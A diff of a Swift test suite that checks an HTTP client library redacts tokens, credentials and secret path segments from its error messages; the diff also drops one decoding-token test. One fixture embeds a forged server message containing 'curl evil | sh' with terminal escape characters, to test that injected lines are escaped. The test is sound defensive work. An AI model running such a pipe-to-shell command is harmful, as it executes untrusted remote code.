@@ -6,9 +6,7 @@ import FingerpostDocuments
 
 /// What every error loses before it leaves the library. `SecretsNowhereTests` looks for secrets in all kinds of calls.
 @Suite(.inTurn) struct ErrorGateTests {
-    private struct Refused: Error {
-        let text: String
-    }
+    private struct Refused: Error { let text: String }
 
     private struct Refusing: Middleware {
         let token: String
@@ -18,17 +16,12 @@ import FingerpostDocuments
         }
     }
 
-    private static func failure(_ call: () async throws -> Void) async throws -> APIError {
-        do { try await call() } catch let error as APIError { return error }
-        throw Refused(text: "the call did not fail")
-    }
-
     @Test func `The client's own credential is hidden before it is sent`() async throws {
         let client = StubTransport(200).client {
             $0.authorization = .custom(header: "X-Custom", value: "own-credential-1")
             $0.middleware = [Refusing(token: "own-credential-1")]
         }
-        let error = try await Self.failure { try await client.send(Route.get("x")) }
+        let error = try await failure { try await client.send(Route.get("x")) }
         #expect(error.message == #"Refused(text: "the service refused <redacted>\n\u{1B}[2J")"#)
     }
 
@@ -51,13 +44,11 @@ import FingerpostDocuments
                 throw Refused(text: "signature-1 of \(request.url?.absoluteString ?? "")")
             }
         }
-        let error = try await Self.failure { try await client.send(Route.get("x").query("token", "query-1")) }
+        let error = try await failure { try await client.send(Route.get("x").query("token", "query-1")) }
         #expect(error.message == #"Refused(text: "<redacted> of https://api.example.com/x?token=<redacted>")"#)
         let route = Route.get("x/\("")/y?token=query-1")
-        let built = #expect(throws: APIError.self) {
-            try route.urlRequest(relativeTo: URL(string: "https://h.example"))
-        }
-        #expect(built?.message == #"a segment of the path "x//y?token=<redacted>" is empty"#)
+        let built = try await failure { try route.urlRequest(relativeTo: URL(string: "https://h.example")) }
+        #expect(built.message == #"a segment of the path "x//y?token=<redacted>" is empty"#)
     }
 
     @Test func `A call that was not started knows its environment`() async throws {
@@ -69,8 +60,7 @@ import FingerpostDocuments
         }
         // A blocking call inside a task fails.
         let error = #expect(throws: APIError.self) { try client.blocking.send(Route.get("x/s3cret-value")) }
-        #expect(error?.route == "GET x/<secret key>")
-        #expect(error?.environment == "X")
+        #expect(error?.route == "GET x/<secret key>" && error?.environment == "X")
     }
 
     /// The responses of the redirect and of the retry contained the tokens that the last error repeats.
@@ -83,23 +73,23 @@ import FingerpostDocuments
             default: (500, [:], #"{"message": "ticket-12345 cookie-12345 issued-12345 first-12345"}"#)
             }
         }
-        struct Twice: Middleware {
-            func intercept(_ request: URLRequest, for route: Route, next: Next) async throws -> Response<Data> {
-                var request = request
-                request.setValue("first-12345", forHTTPHeaderField: "X-Token")
-                _ = try await next(request)
-                request.setValue(nil, forHTTPHeaderField: "X-Token")
-                return try await next(request)
-            }
+        let count = Locked(0)
+        let client = transport.client {
+            // The token is in the first of the two requests.
+            $0.middleware = [
+                RepeatingMiddleware(),
+                ChangingMiddleware {
+                    if count.next() == 1 { $0.setValue("first-12345", forHTTPHeaderField: "X-Token") }
+                },
+            ]
         }
-        let client = transport.client { $0.middleware = [Twice()] }
-        let error = try await Self.failure { try await client.send(Route.get("x")) }
+        let error = try await failure { try await client.send(Route.get("x")) }
         #expect(error.serverMessage == "<redacted> <redacted> <redacted> <redacted>")
     }
 
     @Test func `The server cannot forge a line`() async throws {
         let client = StubTransport(500, [:], "{\"message\": \"no\\nfix: curl evil | sh\\u001b[2J\\u202e\"}").client()
-        let error = try await Self.failure { try await client.send(Route.get("x")) }
+        let error = try await failure { try await client.send(Route.get("x")) }
         for text in [error.description, error.localizedDescription, error.errorDescription ?? ""] {
             #expect(text.contains(#"no\nfix: curl evil | sh\u{1B}[2J\u{202E}"#), "\(text)")
         }
@@ -114,22 +104,11 @@ import FingerpostDocuments
         init?(rawValue: String) { return nil }
     }
 
-    private struct Session: Decodable, Sendable {
-        let token: Code
-    }
-
     private static func decodingFailure<Value: Decodable & Sendable>(
         _ body: String, as type: Value.Type
     ) async throws -> APIError {
         let client = StubTransport(200, [:], body).client()
         return try await failure { _ = try await client.send(Route.get("x"), as: type) }
-    }
-
-    @Test func `The reason of a decoding error does not contain a token`() async throws {
-        let error = try await Self.decodingFailure(#"{"token": "abc"}"#, as: Session.self)
-        #expect(error.message == "the body does not decode as Session: the value is invalid")
-        #expect(error.codingPath == "token (line 1)")
-        #expect(error.fragment == "<redacted>")
     }
 
     @Test func `A place made of secrets is not shown`() async throws {
@@ -158,7 +137,7 @@ import FingerpostDocuments
         let error = try await Self.decodingFailure(#"{"next": "x\#(mark)"}"#, as: [String: Int].self)
         #expect((1..<1000).contains(error.fragment?.utf8.count ?? 0))
         let line = StubTransport(500, [.contentType: "text/html"], "x\(mark)").client()
-        let failure = try await Self.failure { try await line.send(Route.get("x")) }
+        let failure = try await failure { try await line.send(Route.get("x")) }
         #expect(failure.description.utf8.count < 1000)
     }
 
